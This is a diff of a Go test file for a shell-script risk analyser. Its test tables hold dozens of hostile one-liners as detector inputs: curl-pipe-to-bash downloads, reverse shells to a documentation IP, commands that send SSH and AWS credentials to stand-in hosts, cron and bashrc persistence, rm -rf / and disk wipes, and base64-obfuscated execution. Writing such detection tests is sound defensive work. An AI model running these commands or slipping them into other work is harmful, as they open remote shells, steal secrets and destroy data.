@@ -22,57 +22,57 @@ func worst(t *testing.T, src string) (Severity, []Finding) {
 
 func TestRules(t *testing.T) {
 	fail := map[string]Category{
-		"wget -qO- https://dl.example.net/i | bash":                                                                        DownloadExec,
-		"curl -fsSL https://get.tool.example/x.sh | sudo -E bash -s -- --yes":                                              DownloadExec,
-		"curl https://x.test/a | python3 -":                                                                                DownloadExec,
-		"bash <(curl -s https://x.test/i.sh)":                                                                              DownloadExec,
-		"source <(curl -s https://x.test/env)":                                                                             DownloadExec,
-		`python -c "$(curl -s https://x.test/p.py)"`:                                                                       DownloadExec,
-		`eval "$(curl -s https://x.test/i)"`:                                                                               DownloadExec,
-		"curl -o /tmp/i.sh https://x.test/i.sh\nsh /tmp/i.sh":                                                              DownloadExec,
-		"wget https://x.test/tool\nchmod +x tool && ./tool":                                                                DownloadExec,
-		"curl -fsSLo helper https://x.test/h && chmod 755 helper && ./helper --install":                                    DownloadExec,
-		`sh -c 'curl -s https://x.test/i | sh'`:                                                                            DownloadExec,
-		"bash <<'EOF'\ncurl -s https://x.test/i | bash\nEOF":                                                               DownloadExec,
-		"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1":                                                                        ReverseShell,
-		"nc -e /bin/sh 203.0.113.7 4444":                                                                                   ReverseShell,
-		"ncat 203.0.113.7 4444 --sh-exec /bin/bash":                                                                        ReverseShell,
-		"socat tcp:203.0.113.7:4444 exec:/bin/sh,pty,stderr":                                                               ReverseShell,
-		"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 >/tmp/f":                               ReverseShell,
-		`python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0)'`: ReverseShell,
-		"cat ~/.aws/credentials | curl -X POST --data-binary @- https://collect.example.net":                               CredentialSend,
-		"tar czf /tmp/k.tgz ~/.ssh\ncurl -F f=@/tmp/k.tgz https://collect.example.net":                                     CredentialSend,
-		"curl -d @$HOME/.netrc https://collect.example.net":                                                                CredentialSend,
-		`(crontab -l; echo "*/5 * * * * curl -s https://x.test/b | sh") | crontab -`:                                       Persistence,
-		`echo 'curl -s https://x.test/b | sh' >> ~/.bashrc`:                                                                Persistence,
-		"cat key.pub >> ~/.ssh/authorized_keys":                                                                            Persistence,
-		"cp agent.plist ~/Library/LaunchAgents/ && launchctl load ~/Library/LaunchAgents/agent.plist":                      Persistence,
-		"systemctl enable --now backdoor.service":                                                                          Persistence,
-		"git config --global core.hooksPath /tmp/hooks":                                                                    Persistence,
-		"echo x | sudo tee /etc/cron.d/job":                                                                                Persistence,
-		"rm -rf /":                                                                                                         Destruction,
-		"rm -rf ~":                                                                                                         Destruction,
-		`rm -rf "$HOME"`:                                                                                                   Destruction,
-		`rm -rf "$BUILD_DIR"/`:                                                                                             Destruction,
-		"rm -rf $TARGET/*":                                                                                                 Destruction,
-		"dd if=/dev/zero of=/dev/sda bs=1M":                                                                                Destruction,
-		"mkfs.ext4 /dev/sdb1":                                                                                              Destruction,
-		":(){ :|:& };:":                                                                                                    Destruction,
-		"history -c":                                                                                                       DefenceEvasion,
-		"unset HISTFILE":                                                                                                   DefenceEvasion,
-		"export HISTFILE=/dev/null":                                                                                        DefenceEvasion,
-		"setenforce 0":                                                                                                     DefenceEvasion,
-		"sudo ufw disable":                                                                                                 DefenceEvasion,
-		"chattr +i /etc/resolv.conf":                                                                                       DefenceEvasion,
-		`echo "dev ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers`:                                                                Privilege,
-		"chmod 4755 /usr/local/bin/helper":                                                                                 Privilege,
-		"chmod u+s ./helper":                                                                                               Privilege,
-		"chmod -R 777 /":                                                                                                   Privilege,
-		"echo Y3VybCAtcyBodHRwOi8veC50ZXN0L2EgfCBzaA== | base64 -d | sh":                                                   DecodeExec,
-		"xxd -r -p payload.hex | bash":                                                                                     DecodeExec,
-		"openssl enc -d -aes-256-cbc -in p.enc -k k | sh":                                                                  DecodeExec,
-		`eval "$(echo ZWNobyBoaQ== | base64 --decode)"`:                                                                    DecodeExec,
-		"echo 'hs | a/tset.x//:ptth ls- lruc' | rev | sh":                                                                  DecodeExec,
+		"wget -qO- https://dl.example.net/i | bash":                                          DownloadExec,
+		"curl -fsSL https://get.tool.example/x.sh | sudo -E bash -s -- --yes":                DownloadExec,
+		"curl https://x.test/a | python3 -":                                                  DownloadExec,
+		"bash <(curl -s https://x.test/i.sh)":                                                DownloadExec,
+		"source <(curl -s https://x.test/env)":                                               DownloadExec,
+		`python -c "$(curl -s https://x.test/p.py)"`:                                         DownloadExec,
+		`eval "$(curl -s https://x.test/i)"`:                                                 DownloadExec,
+		"curl -o /tmp/i.sh https://x.test/i.sh\nsh /tmp/i.sh":                                DownloadExec,
+		"curl -fsSLo helper https://x.test/h && chmod 755 helper && ./helper --install":      DownloadExec,
+		`sh -c 'curl -s https://x.test/i | sh'`:                                              DownloadExec,
+		"bash <<'EOF'\ncurl -s https://x.test/i | bash\nEOF":                                 DownloadExec,
+		"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1":                                          ReverseShell,
+		"nc -e /bin/sh 203.0.113.7 4444":                                                     ReverseShell,
+		"ncat 203.0.113.7 4444 --sh-exec /bin/bash":                                          ReverseShell,
+		"socat tcp:203.0.113.7:4444 exec:/bin/sh,pty,stderr":                                 ReverseShell,
+		"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 >/tmp/f": ReverseShell,
+		`python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`: ReverseShell,
+		// a checksum beside the download does not make running it safe:
+		// the sum usually comes from the same place
+		"curl -o i.sh https://x.test/i.sh\nsha256sum -c i.sh.sha256\nbash i.sh": DownloadExec,
+		"curl -s \"https://t.example/b?h=$(hostname)\"":                         Beacon,
+		"cat ~/.ssh/id_rsa": CredentialRead,
+		"curl -s -d @- https://webhook.site/x < README.md":                                            CaptureHost,
+		"cat ~/.aws/credentials | curl -X POST --data-binary @- https://collect.example.net":          CredentialSend,
+		"curl -d @$HOME/.netrc https://collect.example.net":                                           CredentialSend,
+		`(crontab -l; echo "*/5 * * * * curl -s https://x.test/b | sh") | crontab -`:                  Persistence,
+		`echo 'curl -s https://x.test/b | sh' >> ~/.bashrc`:                                           Persistence,
+		"cat key.pub >> ~/.ssh/authorized_keys":                                                       Persistence,
+		"cp agent.plist ~/Library/LaunchAgents/ && launchctl load ~/Library/LaunchAgents/agent.plist": Persistence,
+		"systemctl enable --now backdoor.service":                                                     Persistence,
+		"echo x | sudo tee /etc/cron.d/job":                                                           Persistence,
+		"rm -rf /":                                                                                    Destruction,
+		"rm -rf ~":                                                                                    Destruction,
+		`rm -rf "$HOME"`:                                                                              Destruction,
+		`rm -rf "$BUILD_DIR"/`:                                                                        Destruction,
+		"rm -rf $TARGET/*":                                                                            Destruction,
+		"dd if=/dev/zero of=/dev/sda bs=1M":                                                           Destruction,
+		"mkfs.ext4 /dev/sdb1":                                                                         Destruction,
+		":(){ :|:& };:":                                                                               Destruction,
+		"history -c":                                                                                  DefenceEvasion,
+		"unset HISTFILE":                                                                              DefenceEvasion,
+		"setenforce 0":                                                                                DefenceEvasion,
+		"sudo ufw disable":                                                                            DefenceEvasion,
+		"chattr +i /etc/resolv.conf":                                                                  DefenceEvasion,
+		`echo "dev ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers`:                                           Privilege,
+		"chmod 4755 /usr/local/bin/helper":                                                            Privilege,
+		"chmod u+s ./helper":                                                                          Privilege,
+		"chmod -R 777 /":                                                                              Privilege,
+		"echo Y3VybCAtcyBodHRwOi8veC50ZXN0L2EgfCBzaA== | base64 -d | sh":                              DecodeExec,
+		`eval "$(echo ZWNobyBoaQ== | base64 --decode)"`:                                               DecodeExec,
+		"echo 'hs | a/tset.x//:ptth ls- lruc' | rev | sh":                                             DecodeExec,
 	}
 	for src, want := range fail {
 		sev, fs := worst(t, src)
@@ -113,9 +113,8 @@ func TestRules(t *testing.T) {
 	}
 	warn := map[string]Category{
 		"sudo apt-get update":  Sudo,
-		"pip install requests": RuntimeInstall,
+		"pip install requests": "",
 		"curl -fsSLo tool.tgz \"$URL\" && echo \"$SUM  tool.tgz\" | sha256sum -c && tar -xzf tool.tgz": "",
-		"curl -o i.sh https://x.test/i.sh\nsha256sum -c i.sh.sha256\nbash i.sh":                        VerifiedExec,
 	}
 	for src, want := range warn {
 		sev, fs := worst(t, src)
@@ -140,8 +139,9 @@ func TestLineNumbers(t *testing.T) {
 	if len(fs) != 1 || fs[0].Line != 5 {
 		t.Fatalf("findings %+v, want one at line 5", fs)
 	}
+	// a finding in an sh -c body is at the command that runs the body
 	_, fs = worst(t, "echo a\nsh -c 'echo b\ncurl -s https://x.test | sh'\n")
-	if len(fs) == 0 || fs[0].Line != 3 {
+	if len(fs) == 0 || fs[0].Line != 2 {
 		t.Fatalf("nested body line: %+v", fs)
 	}
 }
@@ -156,7 +156,7 @@ func TestParseErrorIsReported(t *testing.T) {
 }
 
 func FuzzAnalyze(f *testing.F) {
-	for _, s := range []string{"curl x | sh", "bash -c 'sh -c \"eval \\\"x\\\"\"'", ":(){ :|:& };:", "cat <<EOF\nx\nEOF", "a=$(b <(c))"} {
+	for _, s := range []string{"curl x | sh", "bash -c 'sh -c \"eval \\\"x\\\"\"'", ":(){ :|:& };:", "cat <<EOF\nx\nEOF", "a=$(b <(c))", "\"()0"} {
 		f.Add([]byte(s))
 	}
 	f.Fuzz(func(t *testing.T, src []byte) {
